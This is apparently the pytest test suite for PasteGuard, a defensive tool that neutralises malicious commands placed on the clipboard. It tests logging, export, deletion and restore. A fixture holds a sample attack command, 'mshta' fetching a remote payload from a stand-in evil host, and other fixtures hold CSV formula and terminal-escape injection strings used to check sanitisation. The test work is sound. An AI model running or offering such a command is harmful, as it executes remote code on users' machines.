"""`pasteguard log`, `export`, `forget` and `restore` over a real event store."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from app.cli import main
from app.commands.events import parse_since
from app.detection import Engine
from app.events import Event, EventKind
from app.forwarding.ecs import event_uid
from app.storage import EventStore

MALICIOUS = "mshta https://evil.test/fix-error"


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "no-policy.toml"))
    folder = tmp_path / "data"
    store = EventStore.open(folder)
    verdict = Engine(strict=True).analyze(MALICIOUS)
    old = Event(kind=EventKind.STARTED.value, time=datetime.now(UTC) - timedelta(days=10))
    store.append(old)
    neutralized = Event.from_verdict(
        EventKind.CLIPBOARD_NEUTRALIZED.value, verdict, MALICIOUS, "neutralized"
    )
    store.append(neutralized, original=MALICIOUS)
    store.append(Event(kind=EventKind.ERROR.value, summary='=HYPERLINK("x") \x1b[31mred'))
    store.close()
    return folder


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def test_log_prints_a_table_newest_first(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "log", "--data-dir", str(data))
    lines = out.splitlines()
    assert code == 0 and lines[0].split()[:3] == ["ID", "TIME", "LEVEL"]
    assert "error" in lines[1] and "clipboard_neutralized" in lines[2] and "started" in lines[3]
    assert "\x1b" not in out and "<U+001B>" in out  # control characters are shown, never obeyed


def test_log_filters(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(capsys, "log", "--level", "malicious", "--data-dir", str(data))
    assert "clipboard_neutralized" in out and "started" not in out
    _, out, _ = run(capsys, "log", "--since", "7d", "--data-dir", str(data))
    assert "started" not in out and "error" in out
    _, out, _ = run(capsys, "log", "--search", "evil[.]test", "--data-dir", str(data))
    assert "clipboard_neutralized" in out and "error" not in out
    _, out, _ = run(capsys, "log", "--kind", "paste_blocked", "--data-dir", str(data))
    assert "(no events)" in out


def test_a_backwards_or_empty_time_range_is_said_not_no_events(
    data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """audit20 left it: `log --since 2021 --until 2020` printed "(no events)" (exit 0), as if the
    log had none then; and `--since 2021` was refused as a time. Now a year reads as its first
    moment and a range nothing can be in is a usage error; `export -o` makes no empty file."""
    code, out, err = run(
        capsys, "log", "--since", "2021", "--until", "2020", "--data-dir", str(data)
    )
    assert code == 2 and out == ""
    assert "the time range is empty: --since 2021-01-01 00:00:00 is not before --until 2020" in err
    code, _, err = run(capsys, "log", "--since", "2026-11-01", "--until", "2026-11-01",
                       "--data-dir", str(data))  # fmt: skip
    assert code == 2 and "a date alone is its midnight" in err
    target = tmp_path / "out.csv"
    code, _, err = run(capsys, "export", "--format", "csv", "--since", "1d", "--until", "2d",
                       "-o", str(target), "--data-dir", str(data))  # fmt: skip
    assert code == 2 and "the time range is empty" in err and not target.exists()
    code, out, _ = run(
        capsys, "log", "--since", "2000", "--until", "2999-12", "--data-dir", str(data)
    )
    assert code == 0 and "clipboard_neutralized" in out and "started" in out


def test_a_time_without_a_zone_is_the_local_time_log_shows(
    data: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`log` shows local times; a time copied from its table into --since was read as UTC, so
    east of Greenwich the very event it was copied from was left out."""
    monkeypatch.setenv("TZ", "Asia/Kolkata")  # UTC+05:30, no summer time
    time.tzset()
    try:
        _, out, _ = run(capsys, "log", "--kind", "clipboard_neutralized", "--data-dir", str(data))
        shown = out.splitlines()[1].split()[1:3]  # its date and time, as the table shows them
        code, out, _ = run(capsys, "log", "--since", "T".join(shown), "--data-dir", str(data))
        assert code == 0 and "clipboard_neutralized" in out
        assert parse_since("2026-11-01") == datetime(2026, 10, 31, 18, 30, tzinfo=UTC)
        assert parse_since("2026-11-01T00:00Z") == datetime(2026, 11, 1, tzinfo=UTC)
    finally:
        monkeypatch.undo()
        time.tzset()


def test_a_limit_beyond_any_store_means_all_of_them(
    data: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # 2**64 and more: an OverflowError traceback from SQLite's 64-bit LIMIT
    code, out, err = run(capsys, "log", "--limit", "9" * 30, "--data-dir", str(data))
    assert code == 0 and not err
    assert "clipboard_neutralized" in out and "started" in out


@pytest.mark.parametrize(
    ("option", "wrong", "named"),
    [("--kind", "pasted", "paste_blocked"), ("--target", "console", "browser_console")],
)
def test_an_unknown_kind_or_target_names_the_valid_ones(
    data: Path, capsys: pytest.CaptureFixture[str], option: str, wrong: str, named: str
) -> None:
    with pytest.raises(SystemExit) as usage:
        main(["log", option, wrong, "--data-dir", str(data)])
    err = capsys.readouterr().err
    assert usage.value.code == 2 and repr(wrong) in err and named in err


def _every_subcommand() -> list[str]:
    from app.cli import build_parser
    from app.commands.help import subcommands

    return [name for name, _, _ in subcommands(build_parser({"run": lambda a, o: 0}))]


@pytest.mark.parametrize("command", _every_subcommand())
def test_subcommand_help_describes_it_and_shows_examples(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        main([*command.split(), "--help"])
    out = capsys.readouterr().out
    assert "examples:" in out and f"pasteguard {command}" in out.split("examples:")[1]
    description = out.split("\n\n")[1]  # usage, then the description paragraph
    assert not description.startswith(("positional", "options")) and len(description) > 10


def test_export_jsonl_carries_the_required_fields(
    data: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "export", "--format", "jsonl", "--data-dir", str(data))
    records = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [r["kind"] for r in records] == [
        "started",
        "clipboard_neutralized",
        "error",
    ]
    flagged = records[1]
    for key in (
        "time",
        "kind",
        "level",
        "action",
        "source",
        "target",
        "rules",
        "summary",
        "text",
        "sha256",
    ):
        assert key in flagged
    assert flagged["text"] == "mshta hxxps://evil[.]test/fix-error" and len(flagged["sha256"]) == 64


def test_export_csv_keeps_formulas_as_text(
    data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out.csv"
    code, _, err = run(
        capsys, "export", "--format", "csv", "-o", str(target), "--data-dir", str(data)
    )
    assert code == 0 and "exported 3 events" in err
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows[2]["summary"].startswith("'=HYPERLINK")


def test_export_ecs(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = run(
        capsys, "export", "--format", "ecs", "--level", "malicious", "--data-dir", str(data)
    )
    (doc,) = [json.loads(line) for line in out.splitlines()]
    assert doc["event"]["action"] == "clipboard_neutralized" and "@timestamp" in doc


def test_forget_one_and_all(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "forget", "1", "--data-dir", str(data))
    assert code == 0 and "deleted 1 event" in out
    code, out, _ = run(capsys, "forget", "--all", "--yes", "--data-dir", str(data))
    assert code == 0 and "deleted 2 events" in out
    for path in data.iterdir():
        if path.is_file():
            assert b"evil" not in path.read_bytes(), path


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_forget_all_asks_on_a_terminal_and_needs_yes_elsewhere(
    data: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def count() -> int:
        with EventStore.open(data) as store:
            return store.count()

    monkeypatch.setattr("sys.stdin", io.StringIO(""))  # a script: nobody to ask
    code, _, err = run(capsys, "forget", "--all", "--data-dir", str(data))
    assert code == 2 and "--yes" in err and count() == 3
    monkeypatch.setattr("sys.stdin", _Terminal("n\n"))
    code, out, _ = run(capsys, "forget", "--all", "--data-dir", str(data))
    assert code == 0 and "Delete all 3 events for good? [y/N]" in out and count() == 3
    monkeypatch.setattr("sys.stdin", _Terminal("y\n"))
    code, out, _ = run(capsys, "forget", "--all", "--data-dir", str(data))
    assert code == 0 and "deleted 3 events" in out and count() == 0


def test_forget_refused_when_the_policy_says_so(data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    policy = tmp_path / "policy.toml"
    policy.write_text("allow_delete_events = false\n", encoding="utf-8")
    monkeypatch.setenv("PASTEGUARD_POLICY", str(policy))
    code, _, err = run(capsys, "forget", "--all", "--data-dir", str(data))
    assert code == 2 and "policy" in err


def test_restore_without_a_running_guard_uses_the_clipboard(data: Path, monkeypatch: pytest.MonkeyPatch,
                                                            capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    copied: list[str] = []
    import pyperclip

    monkeypatch.setattr(pyperclip, "copy", copied.append)
    code, out, _ = run(capsys, "restore", "--last", "--data-dir", str(data))
    assert code == 0 and copied == [MALICIOUS] and "back on the clipboard" in out
    store = EventStore.open(data)
    restored = store.query(limit=1)[0]
    blocked = store.get(restored.details["event_id"])
    store.close()
    assert restored.kind == "restored" and blocked is not None
    # a SIEM can join it to the event that blocked the text without the local id
    assert restored.details["follows"] == {
        "event_id": event_uid(blocked),
        "id": blocked.id,
        "kind": "clipboard_neutralized",
    }


def test_restore_without_a_desktop_session_says_so(data: Path, monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """Over ssh (no DISPLAY) `restore --last` answered with pyperclip's "could not find a
    copy/paste mechanism … sudo apt-get install xclip", with xclip installed: the session was
    missing, and nothing is recorded as put back."""
    import pyperclip

    def no_session(text: str) -> None:
        raise pyperclip.PyperclipException("Pyperclip could not find a copy/paste mechanism")

    monkeypatch.setattr(pyperclip, "copy", no_session)
    monkeypatch.delenv("DISPLAY", raising=False)
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    monkeypatch.setattr("sys.platform", "linux")
    code, _, err = run(capsys, "restore", "--last", "--data-dir", str(data))
    assert code == 2 and "no desktop session here" in err and "apt-get" not in err
    store = EventStore.open(data)
    assert "restored" not in [e.kind for e in store.query(limit=50)]
    store.close()
    monkeypatch.setenv("DISPLAY", ":0")  # a session whose clipboard tool is missing: said so
    code, _, err = run(capsys, "restore", "--last", "--data-dir", str(data))
    assert code == 2 and "copy/paste mechanism" in err


def test_restore_refused_when_the_policy_forbids_paste_anyway(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A scam page can say "run pasteguard restore" as easily as "press Win+R"."""
    copied: list[str] = []
    import pyperclip

    monkeypatch.setattr(pyperclip, "copy", copied.append)
    policy = tmp_path / "policy.toml"
    policy.write_text("allow_paste_anyway = false\n", encoding="utf-8")
    monkeypatch.setenv("PASTEGUARD_POLICY", str(policy))
    code, _, err = run(capsys, "restore", "--last", "--data-dir", str(data))
    assert code == 2 and "policy does not allow" in err and copied == []


def test_restore_tells_a_missing_event_from_an_expired_text(
    data: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import pyperclip

    monkeypatch.setattr(pyperclip, "copy", lambda text: None)
    code, _, err = run(capsys, "restore", "9999", "--data-dir", str(data))
    assert code == 2 and "there is no event 9999" in err and "expired" not in err
    code, _, err = run(capsys, "restore", "1", "--data-dir", str(data))  # `started`
    assert code == 2 and "kept no text" in err
    with EventStore.open(data) as store:
        neutralized = store.query(limit=10)[1]
        assert neutralized.kind == "clipboard_neutralized" and neutralized.id is not None
        store.delete([neutralized.id])
        kept = store.append(replace(neutralized, id=None))  # the event stays, its text is gone
    code, _, err = run(capsys, "restore", str(kept), "--data-dir", str(data))
    assert code == 2 and "has expired or was deleted" in err


def test_commands_on_a_missing_log_say_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(capsys, "log", "--data-dir", str(tmp_path / "none"))
    assert code == 2 and "no event log" in err
    with pytest.raises(SystemExit) as usage:  # argparse: usage errors exit 2
        main(["log", "--since", "yesterday-ish", "--data-dir", str(tmp_path)])
    assert usage.value.code == 2 and "cannot read time" in capsys.readouterr().err


@pytest.mark.parametrize(
    "command", [["log"], ["export", "--format", "jsonl"], ["forget", "--all", "--yes"]]
)
def test_a_log_written_by_a_newer_pasteguard_is_said_not_a_traceback(
    data: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """Seen: `log`, `export` and `forget` over an event log of a newer schema ended in a
    StoreUnavailable traceback; the file is left as it is for the newer version."""
    with sqlite3.connect(data / "events.db") as conn:
        conn.execute("PRAGMA user_version = 999")
    code, out, err = run(capsys, *command, "--data-dir", str(data))
    assert code == 2 and out == ""
    assert (
        "pasteguard: the event log cannot be used: the event database has schema version 999" in err
    )
    assert "a newer PasteGuard wrote it" in err and "Traceback" not in err
    with sqlite3.connect(data / "events.db") as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 999
        assert conn.execute("SELECT count(*) FROM events").fetchone()[0] > 0  # nothing lost


def test_log_shows_the_count_of_a_text_written_again_and_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The count ends the event's summary, which the table cuts at 100 characters."""
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "no-policy.toml"))
    with EventStore.open(tmp_path / "data") as store:
        summary = "A web page (captcha[.]example) put a command on your clipboard " * 2
        store.append(Event(kind="clipboard_neutralized", level="malicious", summary=summary,
                           details={"writes": 124}))  # fmt: skip
        store.append(Event(kind="clipboard_neutralized", level="malicious", summary="once",
                           details={"writes": 1}))  # fmt: skip
    code, out, _ = run(capsys, "log", "--data-dir", str(tmp_path / "data"))
    assert code == 0
    assert "  (124 times) A web page" in out and "(1 times)" not in out


@pytest.mark.parametrize(
    "command", [["log"], ["export", "--format", "jsonl"], ["forget", "--all", "--yes"]]
)
def test_a_damaged_log_is_said_and_left_as_it_is(
    data: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
    command: list[str],
) -> None:
    """audit19 left it: `pasteguard log` over a damaged events.db moved the file aside and
    started a new one, a reading command writing (under a running guard that has it open).
    Now it says so and leaves the file; the guard, opening it, moves it aside."""
    db = data / "events.db"
    for extra in ("-wal", "-shm"):
        (data / f"events.db{extra}").unlink(missing_ok=True)
    db.write_bytes(b"not a database at all " * 400)
    before = sorted(p.name for p in data.iterdir())
    code, out, err = run(capsys, *command, "--data-dir", str(data))
    assert code == 2 and out == ""
    assert "pasteguard: the event log cannot be used: " in err and "damaged" in err
    assert "it was left as it is" in err and "Traceback" not in err
    # the store's "degraded ...; next try in 0.25 s" is the guard's: a command retries nothing
    assert not [r for r in caplog.records if "next try in" in r.getMessage()]
    assert sorted(p.name for p in data.iterdir()) == before
    assert db.read_bytes() == b"not a database at all " * 400


def test_a_row_that_is_not_utf8_is_shown_and_forwarded_not_a_dead_end(
    data: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """SQLite never checks UTF-8: one event whose summary or text is not (a bit flip, another
    program's write) ended `log` and `export` in an OperationalError traceback ("Could not
    decode to UTF-8"), and the guard's forwarder stopped at that row for good. Its bad bytes
    are now shown as U+FFFD."""
    with sqlite3.connect(data / "events.db") as conn:
        conn.execute(
            "UPDATE events SET summary = CAST(X'626164ff206f6e65' AS TEXT), "
            "text = CAST(X'6563686fff' AS TEXT) WHERE kind = 'clipboard_neutralized'"
        )
    code, out, err = run(capsys, "log", "--data-dir", str(data))
    assert code == 0 and "bad\ufffd one" in out and err == ""
    for fmt in ("jsonl", "csv", "ecs"):
        code, out, err = run(capsys, "export", "--format", fmt, "--data-dir", str(data))
        assert code == 0 and "echo\ufffd" in out and "Traceback" not in err
    with EventStore.open(data, sinks=["siem"]) as store:
        store.append(Event(kind=EventKind.STARTED.value))
        with sqlite3.connect(data / "events.db") as conn:
            conn.execute("UPDATE events SET summary = CAST(X'ff' AS TEXT) WHERE id = 4")
        (item,) = store.outbox_pending("siem")
        assert item.event.summary == "\ufffd"


def test_forget_and_restore_say_which_ids_name_no_event(
    data: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`forget 99999` answered "deleted 0 events for good" (exit 0) and `restore -1` "event -1
    kept no blocked text": an id that is no id is refused, one not in the log is named."""
    for command in (["restore", "-1"], ["forget", "0"], ["forget", "x"]):
        with pytest.raises(SystemExit) as usage:
            main([*command, "--data-dir", str(data)])
        assert usage.value.code == 2 and "is not an event id" in capsys.readouterr().err
    code, out, _ = run(capsys, "forget", "99999", "--data-dir", str(data))
    assert (
        code == 0
        and out == "deleted nothing: event 99999 is not in the log (see `pasteguard log`)\n"
    )
    code, out, _ = run(capsys, "forget", "1", "99999", "--data-dir", str(data))
    assert out.startswith("deleted 1 of the 2 events asked for; the other is not in the log")
